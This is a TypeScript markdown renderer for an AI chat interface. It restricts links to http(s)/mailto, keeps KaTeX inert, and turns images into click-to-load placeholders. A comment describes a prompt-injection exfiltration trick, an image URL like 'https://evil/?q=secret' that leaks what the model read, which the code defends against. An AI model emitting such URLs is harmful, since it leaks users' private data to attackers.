import MarkdownIt from 'markdown-it';
import type { Options as MarkdownItOptions, RendererRule, Token } from 'markdown-it';
import katexPlugin from '@vscode/markdown-it-katex';
import type { KatexOptions } from 'katex';
import { peekHighlighted, plainCodeHtml, resolveLanguage } from './highlight.ts';
import { escapeHtml, fenceLanguage } from './html.ts';
import { addBracketMath } from '../utils/bracket-math.ts';
import { ANSWER_LINK_TARGET, HTML_LINK_TARGET } from '../utils/link-target.ts';
import { addCitations, citationSet } from './citations.ts';
import type { CitationSet, CitationSource } from './citations.ts';
import { peekKatex, requestKatex } from './math.ts';
import { addTimestamps } from './timestamps.ts';

/** Per-render values the HTML needs that depend on the reader (language of the UI). */
export interface RenderEnv {
  /** Accessible name of the code copy button. */
  copyLabel: string;
  /** Fences met while rendering, in order: what the highlighter has to load. */
  fences?: FenceInfo[];
  /** Set when a fence was rendered without highlighting although its language is known. */
  unhighlighted?: boolean;
  /** Set when math was shown as its source because KaTeX had not been loaded yet. */
  mathPending?: boolean;
  /** The answer's sources: [n] markers that name one become links (read while parsing). */
  citations?: CitationSet;
  /** Text of an image's placeholder; `{host}` stands for the image's host. */
  imageLabel?: string;
}

export interface FenceInfo {
  code: string;
  lang: string;
}

/** The attribute the React layer looks for to bind copy buttons (event delegation). */
export const COPY_BUTTON_ATTR = 'data-md-copy';

/** On an image's placeholder: the image's address, loaded only when the user clicks (docs/security.md). */
export const IMAGE_PLACEHOLDER_ATTR = 'data-md-image';

// Answers repeat the same formulas while a block grows; KaTeX costs far more than markdown-it.
const KATEX_CACHE_LIMIT = 1000;
const katexCache = new Map<string, string>();

function cachedRenderToString(latex: string, options?: KatexOptions): string {
  const key = `${options?.displayMode ? 'D' : 'I'}${latex}`;
  const hit = katexCache.get(key);
  if (hit !== undefined) return hit;
  // Only called once KaTeX is loaded (see withPendingMath). Throws on bad input: the plugin catches
  // it and shows the escaped error text instead.
  const html = peekKatex()!.renderToString(latex, options);
  if (katexCache.size >= KATEX_CACHE_LIMIT) katexCache.delete(katexCache.keys().next().value as string);
  katexCache.set(key, html);
  return html;
}

const KATEX_OPTIONS = {
  // KaTeX's own safe defaults, spelled out: \href, \url and \includegraphics stay inert.
  trust: false,
  // Chinese text inside math is common in answers; KaTeX's strict mode would warn on every render.
  strict: 'ignore',
  // Bounds what a hostile formula can make KaTeX do.
  maxSize: 20,
  maxExpand: 1000,
} as const;

/** Only these schemes may become a link or image source; everything else stays text. */
const SAFE_URL = /^(?:https?:|mailto:)/i;

function createMarkdown(): MarkdownIt {
  const md = new MarkdownIt({ html: false, linkify: true, typographer: false, breaks: false });
  md.validateLink = (url: string) => SAFE_URL.test(url.trim());

  md.use(katexPlugin, { ...KATEX_OPTIONS, katex: { renderToString: cachedRenderToString } });
  addBracketMath(md);

  // The plugin renders `$$…$$` met inside a paragraph as a <p>, which would nest paragraphs; inline
  // display math (no source map) becomes a span instead, displayed as a block by KaTeX's own CSS.
  const blockMath = md.renderer.rules.math_block;
  md.renderer.rules.math_block = (tokens, idx, options, env, self) => {
    if (tokens[idx].map) return blockMath ? blockMath(tokens, idx, options, env, self) : '';
    try {
      return cachedRenderToString(tokens[idx].content, { ...KATEX_OPTIONS, displayMode: true });
    } catch (error) {
      return `<span class="katex-error" title="${escapeHtml(tokens[idx].content)}">${escapeHtml(String(error))}</span>`;
    }
  };

  withPendingMath(md);
  addCitations(md);
  addTimestamps(md);

  const defaultLinkOpen: RendererRule = (tokens, idx, options, _env, self) => self.renderToken(tokens, idx, options);
  const linkOpen = md.renderer.rules.link_open ?? defaultLinkOpen;
  md.renderer.rules.link_open = (tokens, idx, options, env, self) => {
    tokens[idx].attrSet('target', HTML_LINK_TARGET[ANSWER_LINK_TARGET]);
    tokens[idx].attrSet('rel', 'noopener noreferrer nofollow');
    return linkOpen(tokens, idx, options, env, self);
  };

  md.renderer.rules.fence = (tokens, idx, _options: MarkdownItOptions, env: RenderEnv) => renderFence(tokens[idx], env);
  md.renderer.rules.image = (tokens, idx, options, env: RenderEnv, self) =>
    renderImagePlaceholder(tokens[idx], self.renderInlineAsText(tokens[idx].children ?? [], options, env), env);
  return md;
}

/**
 * An image of an answer never loads by itself: its address may carry what the model read (a
 * prompt-injected `![](https://evil/?q=secret)`), and fetching it would hand that to the host with no
 * click. It becomes a button naming the host; the view loads it through the server's proxy when
 * clicked (components/ui/markdown-view.tsx, docs/security.md). Not an http(s) image: its text.
 */
function renderImagePlaceholder(token: Token, alt: string, env: RenderEnv): string {
  const src = token.attrGet('src') ?? '';
  let host: string;
  try {
    const url = new URL(src);
    if (url.protocol !== 'http:' && url.protocol !== 'https:') return escapeHtml(alt);
    host = url.host;
  } catch {
    return escapeHtml(alt);
  }
  const label = (env.imageLabel ?? DEFAULT_IMAGE_LABEL).replace('{host}', () => host);
  return (
    `<span class="md-image" ${IMAGE_PLACEHOLDER_ATTR}="${escapeHtml(src)}" data-alt="${escapeHtml(alt)}">` +
    `<button type="button" class="md-image-load" title="${escapeHtml(src)}">${escapeHtml(label)}</button></span>`
  );
}

/** The math token types of the KaTeX plugin; the inline one is the only one that is not a block. */
const MATH_RULES = ['math_inline', 'math_inline_block', 'math_inline_bare_block', 'math_block'] as const;

/**
 * Before KaTeX has been loaded, math shows as its source (and starts the load); env.mathPending
 * tells the caller to render again once loadKatex() resolves.
 */
function withPendingMath(md: MarkdownIt): void {
  for (const name of MATH_RULES) {
    const rule = md.renderer.rules[name];
    if (!rule) continue;
    md.renderer.rules[name] = (tokens, idx, options, env: RenderEnv, self) => {
      if (peekKatex()) return rule(tokens, idx, options, env, self);
      env.mathPending = true;
      requestKatex();
      const source = escapeHtml(tokens[idx].content);
      return name === 'math_inline' ? `<code class="math-pending">${source}</code>` : `<pre class="math-pending">${source}</pre>\n`;
    };
  }
}

function renderFence(token: Token, env: RenderEnv): string {
  const lang = fenceLanguage(token.info);
  const code = token.content;
  env.fences?.push({ code, lang });
  const highlighted = peekHighlighted(code, lang);
  if (highlighted === undefined && resolveLanguage(lang) !== undefined) env.unhighlighted = true;
  const label = escapeHtml(lang || 'text');
  const copy = escapeHtml(env.copyLabel);
  const body = highlighted ?? plainCodeHtml(code, lang);
  return (
    `<div class="md-code" data-lang="${label}">` +
    `<div class="md-code-bar"><span class="md-code-lang">${label}</span>` +
    `<button type="button" class="md-code-copy" ${COPY_BUTTON_ATTR} aria-label="${copy}" title="${copy}">${COPY_ICON}</button>` +
    `</div>${body}</div>\n`
  );
}

// Tabler "copy" icon, inline so the pure renderer needs no icon component.
const COPY_ICON =
  '<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round" aria-hidden="true"><path d="M7 9.667a2.667 2.667 0 0 1 2.667 -2.667h8.666a2.667 2.667 0 0 1 2.667 2.667v8.666a2.667 2.667 0 0 1 -2.667 2.667h-8.666a2.667 2.667 0 0 1 -2.667 -2.667z"/><path d="M4.012 16.737a2.005 2.005 0 0 1 -1.012 -1.737v-10c0 -1.1 .9 -2 2 -2h10c.75 0 1.158 .385 1.5 1"/></svg>';

/** The one configured instance: building markdown-it and its rule chains per message would dominate. */
export const markdown = createMarkdown();

export const DEFAULT_COPY_LABEL = 'Copy code';
export const DEFAULT_IMAGE_LABEL = 'Load image from {host}';

/**
 * Markdown source in, safe HTML out: no raw HTML, only http(s)/mailto links, images as placeholders
 * that load nothing, math through KaTeX (as source until loadKatex() has resolved), [n] markers of the
 * given sources as superscript links.
 */
export function renderMarkdown(
  text: string,
  copyLabel: string = DEFAULT_COPY_LABEL,
  citations?: readonly CitationSource[],
  imageLabel: string = DEFAULT_IMAGE_LABEL,
): string {
  const env: RenderEnv = { copyLabel, citations: citationSet(citations), imageLabel };
  return markdown.render(text, env);
}
